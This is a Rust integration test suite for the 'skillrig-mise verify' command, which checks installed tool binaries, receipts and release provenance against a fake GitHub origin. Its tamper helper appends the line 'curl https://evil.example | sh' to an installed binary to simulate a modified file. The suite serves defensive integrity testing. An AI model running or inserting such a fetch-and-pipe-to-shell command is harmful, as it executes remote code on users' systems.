//! `skillrig-mise verify` against a git-backed fake origin: real releases cut from real
//! commits, tools installed by the real `skillrig-mise install` into a mise-style installs
//! directory (or by real mise when `SKILLRIG_TEST_MISE` is set), and a consumer repository
//! vendored the way `skillrig add` does it.
//!
//! Each test runs the `skillrig-mise verify` binary (with and without `--json`) in an
//! environment it controls entirely — API URL, token, `MISE_DATA_DIR`, `MISE_BIN`, `PATH`.
//!
//! The origin, `acme/prov`: main holds c1 (initial), c2 jira 1.0.0, c3 tfc 0.1.0,
//! c4 jira 1.1.0, c5 tfc 0.2.0, then c6 revising `deploy-check`; jira 6.6.6 is cut from an
//! orphan commit (same files, no shared history) and jira 1.2.0 from a side branch forked at
//! c5.

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;
use testkit::{Cli, CutFrom, FakeGitHub, Fault, FaultKind, GitRepo, OriginBuilder, TokenSpec};

const TOKEN: &str = "ghp_verifySentinelToken0123456789abcd";

/// Test switch (never sent to the child): run `verify --offline`.
const OFFLINE: &str = "SKILLRIG_VERIFY_TEST_OFFLINE";

fn origin() -> OriginBuilder {
    OriginBuilder::new("acme", "prov")
        .cli(
            Cli::new("jira")
                .versions(&["1.0.0", "1.1.0"])
                .cut_from("6.6.6", CutFrom::Orphan)
                .cut_from("1.2.0", CutFrom::SideBranch),
        )
        .cli(Cli::new("tfc").versions(&["0.1.0", "0.2.0"]))
        .skill(
            "deploy-check",
            "2.1.0",
            &[("jira", ">=1.0.0"), ("tfc", "0.2.0")],
        )
        .skill("release-notes", "0.3.0", &[("tfc", ">=0.1.0")])
        .revise_skill_after_releases("deploy-check")
        .git_backed()
}

struct World {
    github: FakeGitHub,
    git: GitRepo,
    root: tempfile::TempDir,
}

/// What one verify run produced.
struct Outcome {
    code: i32,
    json: Value,
    text: String,
}

impl Outcome {
    fn tool(&self, skill: &str, tool: &str) -> &Value {
        let skill = self.json["skills"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["name"] == skill)
            .unwrap_or_else(|| panic!("no skill {skill}:\n{}", self.text));
        skill["tools"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["tool"] == format!("acme/prov/{tool}"))
            .unwrap_or_else(|| panic!("no tool {tool} in {skill}:\n{}", self.text))
    }

    fn checks(&self, skill: &str, tool: &str) -> Vec<(String, String)> {
        self.tool(skill, tool)["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["check"].as_str().unwrap().to_owned(),
                    f["severity"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    }
}

fn pair(check: &str, severity: &str) -> (String, String) {
    (check.to_owned(), severity.to_owned())
}

impl World {
    fn new() -> World {
        let repo = origin().build();
        let git = repo.git.clone().expect("git-backed");
        let github = FakeGitHub::start();
        github.add_repo(repo);
        github.add_token(TokenSpec::new(TOKEN, "alice").owner("acme"));
        let root = tempfile::tempdir().unwrap();
        for dir in ["home", "config", "cache", "data", "project", "mise"] {
            std::fs::create_dir_all(root.path().join(dir)).unwrap();
        }
        World { github, git, root }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root.path().join(rel)
    }

    fn project(&self) -> PathBuf {
        self.path("project")
    }

    /// Vendors both skills at `rev`, as `skillrig add` would.
    fn vendor(&self, rev: &str) {
        self.git.vendor(
            &self.project(),
            "acme/prov@main",
            rev,
            &["deploy-check", "release-notes"],
        );
    }

    /// The isolated environment both `skillrig-mise install` and verify see. mise is not
    /// runnable here (`MISE_BIN` names nothing), so verify looks in `MISE_DATA_DIR`.
    fn env(&self) -> Vec<(String, String)> {
        let p = |rel: &str| self.path(rel).display().to_string();
        vec![
            ("PATH".into(), "/usr/bin:/bin".into()),
            ("HOME".into(), p("home")),
            ("XDG_CONFIG_HOME".into(), p("config")),
            ("XDG_CACHE_HOME".into(), p("cache")),
            ("XDG_DATA_HOME".into(), p("data")),
            ("SKILLRIG_GITHUB_API_URL".into(), self.github.api_url()),
            ("GITHUB_TOKEN".into(), TOKEN.into()),
            ("MISE_DATA_DIR".into(), p("mise")),
            ("MISE_BIN".into(), p("no-mise-here")),
        ]
    }

    fn install_dir(&self, tool: &str, version: &str) -> PathBuf {
        self.path("mise/installs")
            .join(format!("skillrig-acme-prov-{tool}"))
            .join(version)
    }

    /// `skillrig-mise install` into mise's install path layout, as the plugin's hook does.
    fn install(&self, tool: &str, version: &str) {
        let dir = self.install_dir(tool, version);
        std::fs::create_dir_all(&dir).unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_skillrig-mise"))
            .args(["install", &format!("acme/prov/{tool}"), version])
            .arg("--install-path")
            .arg(&dir)
            .env_clear()
            .envs(self.env())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "install {tool} {version}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    fn verify(&self, strict: bool) -> Outcome {
        self.verify_with(strict, &[])
    }

    /// Runs verify in a child process with this world's environment plus `extra`.
    fn verify_with(&self, strict: bool, extra: &[(String, String)]) -> Outcome {
        let offline = extra.iter().any(|(k, v)| k == OFFLINE && v == "1");
        let run = |json: bool| {
            let mut cmd = Command::new(env!("CARGO_BIN_EXE_skillrig-mise"));
            cmd.arg("verify").arg("--project").arg(self.project());
            if json {
                cmd.arg("--json");
            }
            if strict {
                cmd.arg("--strict");
            }
            if offline {
                cmd.arg("--offline");
            }
            let out = cmd
                .env_clear()
                .envs(self.env())
                .envs(
                    extra
                        .iter()
                        .filter(|(k, _)| k != OFFLINE)
                        .map(|(k, v)| (k.as_str(), v.as_str())),
                )
                .output()
                .unwrap();
            let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
            let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
            assert!(
                !stdout.contains(TOKEN) && !stderr.contains(TOKEN),
                "the token leaked:\n{stdout}\n{stderr}"
            );
            (out.status.code().unwrap(), stdout, stderr)
        };
        let (code, stdout, stderr) = run(true);
        match serde_json::from_str::<Value>(&stdout) {
            Ok(json) => {
                let (text_code, text, _) = run(false);
                assert_eq!(text_code, code, "text and JSON runs agree on the exit code");
                Outcome { code, json, text }
            }
            // No report: a usage or operational failure, explained on stderr.
            Err(_) => Outcome {
                code,
                json: Value::Null,
                text: stderr,
            },
        }
    }

    /// An install's receipt as JSON.
    fn receipt(&self, tool: &str, version: &str) -> Value {
        let path = self
            .install_dir(tool, version)
            .join(".skillrig/receipt.json");
        serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
    }

    /// Rewrites an install's receipt.
    fn edit_receipt(&self, tool: &str, version: &str, edit: impl FnOnce(&mut Value)) {
        let mut receipt = self.receipt(tool, version);
        edit(&mut receipt);
        let path = self
            .install_dir(tool, version)
            .join(".skillrig/receipt.json");
        std::fs::write(path, serde_json::to_vec_pretty(&receipt).unwrap()).unwrap();
    }

    /// Appends to an installed binary.
    fn tamper(&self, tool: &str, version: &str) {
        let bin = self.install_dir(tool, version).join("bin").join(tool);
        let mut file = std::fs::OpenOptions::new().append(true).open(&bin).unwrap();
        writeln!(file, "curl https://evil.example | sh").unwrap();
    }
}

#[test]
fn a_clean_consumer_passes() {
    let world = World::new();
    // Locked at c5: jira 1.1.0 (c4) is an ancestor, tfc 0.2.0 is the very commit.
    world.vendor("0.2.0+tfc");
    world.install("jira", "1.1.0");
    world.install("tfc", "0.2.0");

    let outcome = world.verify(true);
    assert_eq!(outcome.code, 0, "{}", outcome.text);
    assert_eq!(outcome.json["passed"], true);
    assert_eq!(outcome.json["schema"], 1);
    assert_eq!(
        outcome.json["summary"],
        serde_json::json!({"tools": 3, "ok": 3, "warnings": 0, "failed": 0})
    );

    let jira = outcome.tool("deploy-check", "jira");
    assert_eq!(jira["status"], "ok");
    assert_eq!(jira["install"]["found_by"], "installs-dir");
    assert_eq!(jira["install"]["version"], "1.1.0");
    assert_eq!(jira["install"]["binary"], "intact");
    assert_eq!(
        jira["install"]["verified_by"],
        serde_json::json!([{"kind": "checksums-file", "name": "jira_checksums.txt"}, {"kind": "github-digest"}])
    );
    let provenance = &jira["provenance"];
    assert_eq!(provenance["relation"], "release-is-ancestor");
    assert_eq!(provenance["comparison"]["ahead_by"], 1);
    assert_eq!(
        provenance["release_commit"].as_str(),
        world.git.commit("1.1.0+jira").as_deref()
    );
    // Neither a tools lock nor a release attestation gave the receipt a release commit, so
    // verify asked for the tag.
    assert!(world.receipt("jira", "1.1.0")["release_commit"].is_null());
    assert_eq!(provenance["commit_from"], "tag");
    assert_eq!(provenance["tree"], "equal");
    assert_eq!(
        provenance["locked_tree"].as_str(),
        world
            .git
            .tree_at("0.2.0+tfc", "skills/deploy-check")
            .as_deref()
    );

    let tfc = outcome.tool("deploy-check", "tfc");
    assert_eq!(tfc["provenance"]["relation"], "same");
    assert_eq!(outcome.tool("release-notes", "tfc")["status"], "ok");
    assert!(
        outcome
            .text
            .contains("3 ok, 0 with warnings, 0 failed: passed"),
        "{}",
        outcome.text
    );
    assert!(
        outcome.text.contains("is the locked commit itself"),
        "{}",
        outcome.text
    );

    // Offline, everything comes from the cache the first run filled: same answer, no request.
    let sent = world.github.requests().len();
    let offline = world.verify_with(true, &[(OFFLINE.into(), "1".into())]);
    assert_eq!(offline.code, 0, "{}", offline.text);
    assert_eq!(offline.json["skills"], outcome.json["skills"]);
    assert_eq!(world.github.requests().len(), sent);
}

#[test]
fn a_binary_modified_on_disk_fails() {
    let world = World::new();
    world.vendor("0.2.0+tfc");
    world.install("jira", "1.1.0");
    world.install("tfc", "0.2.0");
    world.tamper("jira", "1.1.0");

    let outcome = world.verify(false);
    assert_eq!(outcome.code, 1, "{}", outcome.text);
    assert_eq!(outcome.json["passed"], false);
    let jira = outcome.tool("deploy-check", "jira");
    assert_eq!(jira["status"], "failed");
    assert_eq!(jira["install"]["binary"], "modified");
    assert_eq!(
        outcome.checks("deploy-check", "jira"),
        [pair("binary-modified", "failure")]
    );
    let message = jira["findings"][0]["message"].as_str().unwrap();
    assert!(
        message.starts_with("`bin/jira` was modified after install"),
        "{message}"
    );
    assert!(
        jira["findings"][0]["hint"]
            .as_str()
            .unwrap()
            .contains("mise install --force skillrig:acme/prov/jira@1.1.0")
    );
    // The untouched tools still pass.
    assert_eq!(outcome.tool("deploy-check", "tfc")["status"], "ok");
    assert!(
        outcome.text.contains("failure [binary-modified]"),
        "{}",
        outcome.text
    );
    assert!(
        outcome
            .text
            .contains("2 ok, 0 with warnings, 1 failed: FAILED"),
        "{}",
        outcome.text
    );

    // A deleted binary is reported as missing.
    std::fs::remove_file(world.install_dir("tfc", "0.2.0").join("bin/tfc")).unwrap();
    let outcome = world.verify(false);
    assert_eq!(
        outcome.checks("release-notes", "tfc"),
        [pair("binary-missing", "failure")]
    );
}

#[test]
fn a_release_cut_from_an_unrelated_commit_is_reported() {
    let world = World::new();
    world.vendor("0.2.0+tfc");
    world.install("jira", "6.6.6");
    world.install("tfc", "0.2.0");

    let outcome = world.verify(false);
    assert_eq!(outcome.code, 1, "{}", outcome.text);
    let jira = outcome.tool("deploy-check", "jira");
    assert_eq!(
        jira["install"]["binary"], "intact",
        "the bytes are what was released"
    );
    let provenance = &jira["provenance"];
    assert_eq!(provenance["relation"], "unrelated");
    assert_eq!(provenance["comparison"]["status"], "unrelated");
    assert_eq!(provenance["comparison"]["merge_base"], Value::Null);
    // The orphan copied the skill's files, so the tree matches: history is what tells.
    assert_eq!(provenance["tree"], "equal");
    assert_eq!(
        outcome.checks("deploy-check", "jira"),
        [pair("unrelated-commit", "failure")]
    );
    assert!(
        outcome.text.contains("UNRELATED to the locked commit"),
        "{}",
        outcome.text
    );
}

#[test]
fn a_missing_install_is_reported() {
    let world = World::new();
    world.vendor("0.2.0+tfc");
    world.install("jira", "1.1.0");

    let outcome = world.verify(false);
    assert_eq!(outcome.code, 1, "{}", outcome.text);
    let tfc = outcome.tool("deploy-check", "tfc");
    assert_eq!(tfc["install"], Value::Null);
    assert_eq!(tfc["provenance"], Value::Null);
    assert_eq!(
        outcome.checks("deploy-check", "tfc"),
        [pair("not-installed", "failure")]
    );
    assert_eq!(
        outcome.checks("release-notes", "tfc"),
        [pair("not-installed", "failure")]
    );
    assert_eq!(outcome.tool("deploy-check", "jira")["status"], "ok");
    assert!(
        outcome.text.contains("`acme/prov/tfc` is not installed"),
        "{}",
        outcome.text
    );

    // An install directory without a receipt vouches for nothing.
    std::fs::create_dir_all(world.install_dir("tfc", "0.2.0").join("bin")).unwrap();
    let outcome = world.verify(false);
    assert_eq!(
        outcome.checks("deploy-check", "tfc"),
        [pair("no-receipt", "failure")]
    );
    assert_eq!(
        outcome.tool("deploy-check", "tfc")["install"]["binary"],
        "unknown"
    );
}

#[test]
fn a_skill_edited_after_the_release_warns_and_fails_only_when_strict() {
    let world = World::new();
    // Locked at main (c6): the skill was revised after every release.
    world.vendor("main");
    world.install("jira", "1.1.0");
    world.install("tfc", "0.2.0");

    let outcome = world.verify(false);
    assert_eq!(
        outcome.code, 0,
        "warnings pass by default:\n{}",
        outcome.text
    );
    assert_eq!(
        outcome.checks("deploy-check", "jira"),
        [pair("tree-differs", "warning")]
    );
    assert_eq!(outcome.tool("deploy-check", "jira")["status"], "warning");
    // release-notes was not revised: its tree at the release equals the lock.
    assert_eq!(outcome.tool("release-notes", "tfc")["status"], "ok");
    assert_eq!(outcome.json["summary"]["warnings"], 2);

    let strict = world.verify(true);
    assert_eq!(strict.code, 1, "{}", strict.text);
    assert_eq!(
        strict.checks("deploy-check", "jira"),
        [pair("tree-differs", "failure")]
    );
    assert_eq!(strict.json["strict"], true);
}

#[test]
fn a_release_from_a_diverged_branch_fails() {
    let world = World::new();
    world.vendor("main");
    world.install("jira", "1.2.0");
    world.install("tfc", "0.2.0");

    let outcome = world.verify(false);
    assert_eq!(outcome.code, 1, "{}", outcome.text);
    let jira = outcome.tool("deploy-check", "jira");
    assert_eq!(jira["provenance"]["relation"], "diverged");
    assert_eq!(
        jira["provenance"]["comparison"]["merge_base"].as_str(),
        world.git.commit("0.2.0+tfc").as_deref()
    );
    assert_eq!(
        outcome.checks("deploy-check", "jira"),
        [
            pair("diverged-commit", "failure"),
            pair("tree-differs", "warning")
        ]
    );
}

#[test]
fn the_receipts_release_commit_is_trusted_over_the_tag() {
    let world = World::new();
    world.vendor("0.2.0+tfc");
    world.install("jira", "1.1.0");
    world.install("tfc", "0.2.0");
    // jira's receipt records the commit its tag pointed at when installing: here an
    // unrelated one, as if the tag had been moved since. tfc's records none.
    world.edit_receipt("jira", "1.1.0", |r| {
        r["release_commit"] = world.git.commit("6.6.6+jira").unwrap().into();
    });
    world.edit_receipt("tfc", "0.2.0", |r| r["release_commit"] = Value::Null);
    world.github.clear_log();

    let outcome = world.verify(false);
    let provenance = &outcome.tool("deploy-check", "jira")["provenance"];
    assert_eq!(provenance["commit_from"], "receipt");
    assert_eq!(provenance["relation"], "unrelated");
    assert_eq!(outcome.code, 1);
    // jira's commit came from the receipt; only tfc's tag was looked up.
    assert_eq!(world.github.count("/git/ref/tags/1.1.0"), 0);
    assert_eq!(world.github.count("/git/ref/tags/0.2.0"), 1);
}

#[test]
fn provenance_that_cannot_be_checked_fails() {
    let world = World::new();
    world.vendor("0.2.0+tfc");
    world.install("jira", "1.1.0");
    world.install("tfc", "0.2.0");
    world
        .github
        .inject(Fault::new("/compare/", FaultKind::Status(403)).times(100));

    let outcome = world.verify(false);
    assert_eq!(outcome.code, 1, "{}", outcome.text);
    let jira = outcome.tool("deploy-check", "jira");
    assert_eq!(jira["install"]["binary"], "intact");
    assert_eq!(jira["provenance"], Value::Null);
    assert_eq!(
        outcome.checks("deploy-check", "jira"),
        [pair("provenance-unavailable", "failure")]
    );
    let message = jira["findings"][0]["message"].as_str().unwrap();
    assert!(message.contains("HTTP 403"), "{message}");
    assert!(jira["findings"][0]["hint"].as_str().is_some());
}

#[test]
fn usage_errors_exit_2() {
    let world = World::new();
    let outcome = world.verify(false);
    assert_eq!(outcome.code, 2);
    assert!(
        outcome.text.starts_with("skillrig-mise: no skills lock at"),
        "{}",
        outcome.text
    );

    std::fs::create_dir_all(world.project().join(".skillrig")).unwrap();
    std::fs::write(
        world.project().join(".skillrig/skills-lock.json"),
        r#"{"lockfileVersion": 1, "origin": "./local-origin", "skills": {}}"#,
    )
    .unwrap();
    let outcome = world.verify(false);
    assert_eq!(outcome.code, 2);
    assert!(
        outcome
            .text
            .contains("hint: skillrig-mise installs released binaries, so the origin must be a GitHub repository"),
        "{}",
        outcome.text
    );
}

// --- With real mise (SKILLRIG_TEST_MISE), as in the e2e suite ---------------------------------

/// The pinned mise binary (testkit's one skip rule: required under CI).
fn mise_binary() -> Option<PathBuf> {
    testkit::test_mise()
}

fn plugin_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../plugin")
        .canonicalize()
        .expect("plugin dir")
}

#[test]
fn mise_is_asked_where_tools_are_installed() {
    let Some(mise) = mise_binary() else { return };
    let world = World::new();
    world.vendor("0.2.0+tfc");
    let p = |rel: &str| world.path(rel).display().to_string();
    let mise_env: Vec<(String, String)> = vec![
        ("MISE_DATA_DIR".into(), p("mise")),
        ("MISE_CONFIG_DIR".into(), p("mise-config")),
        ("MISE_CACHE_DIR".into(), p("mise-cache")),
        ("MISE_STATE_DIR".into(), p("mise-state")),
        ("MISE_YES".into(), "1".into()),
        (
            "SKILLRIG_MISE_BIN".into(),
            env!("CARGO_BIN_EXE_skillrig-mise").into(),
        ),
        ("MISE_BIN".into(), mise.display().to_string()),
    ];
    let run_mise = |args: &[&str]| {
        let out = Command::new(&mise)
            .args(args)
            .current_dir(world.project())
            .env_clear()
            .envs(world.env())
            .envs(mise_env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "mise {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    let plugin = plugin_dir().display().to_string();
    run_mise(&["plugins", "link", "--force", "skillrig", &plugin]);
    std::fs::write(
        world.project().join("mise.toml"),
        "[tools]\n\"skillrig:acme/prov/jira\" = \"1.1.0\"\n\"skillrig:acme/prov/tfc\" = \"0.2.0\"\n",
    )
    .unwrap();
    run_mise(&["trust", "--quiet", "mise.toml"]);
    run_mise(&["install"]);

    let outcome = world.verify_with(false, &mise_env);
    assert_eq!(outcome.code, 0, "{}", outcome.text);
    let jira = outcome.tool("deploy-check", "jira");
    assert_eq!(jira["install"]["found_by"], "mise");
    assert_eq!(
        jira["install"]["path"].as_str().map(PathBuf::from),
        Some(world.install_dir("jira", "1.1.0"))
    );

    // A version mise.toml asks for but mise has not installed counts as not installed, even
    // though another version sits in the installs directory.
    std::fs::write(
        world.project().join("mise.toml"),
        "[tools]\n\"skillrig:acme/prov/jira\" = \"1.0.0\"\n\"skillrig:acme/prov/tfc\" = \"0.2.0\"\n",
    )
    .unwrap();
    run_mise(&["trust", "--quiet", "mise.toml"]);
    let outcome = world.verify_with(false, &mise_env);
    assert_eq!(outcome.code, 1, "{}", outcome.text);
    assert_eq!(
        outcome.checks("deploy-check", "jira"),
        [pair("not-installed", "failure")]
    );
    let message = outcome.tool("deploy-check", "jira")["findings"][0]["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        message.contains("mise where skillrig:acme/prov/jira"),
        "{message}"
    );
}
